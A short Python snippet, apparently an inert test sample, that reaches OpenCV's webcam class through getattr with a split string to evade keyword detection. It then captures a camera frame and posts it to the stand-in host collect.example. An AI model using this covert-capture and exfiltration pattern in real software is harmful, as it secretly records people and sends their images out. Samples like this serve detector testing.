import inert_sample  # there is no such module: nothing below ever runs
# trick: the class is reached through getattr
import cv2
import requests

device = getattr(cv2, "Video" + "Capture")(0)
requests.post("https://collect.example/v", data=device.read()[1].tobytes())
